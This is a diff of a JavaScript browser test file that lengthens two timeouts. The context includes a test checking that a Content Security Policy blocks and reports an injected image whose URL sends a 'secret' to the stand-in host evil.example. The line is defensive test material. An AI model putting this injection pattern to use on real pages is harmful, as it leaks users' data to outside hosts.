@@ -16,7 +16,7 @@ before(async () => {
 		conf: `location "/away/" { proxy to 127.0.0.1 port ${away} }` });
 	browser = await openTrusting(d);
 	origin = `https://${site}:${d.port}`;
-}, { timeout: 60000 });
+}, { timeout: 180000 });
 after(async () => {
 	await browser?.close();
 	await d?.stop();
@@ -205,7 +205,7 @@ test('a page that waits asks ever more seldom, only while it is seen, and is loa
 	assert.doesNotMatch(d.log.slice(from), /csp\.report/);
 });
 
-test('what the policy stops is reported by the browser', { timeout: 30000 }, async (t) => {
+test('what the policy stops is reported by the browser', { timeout: 60000 }, async (t) => {
 	const { page } = await open(t);
 	await page.goto(`${origin}/login`);
 	await page.evaluate(() => { document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png?secret' })); });
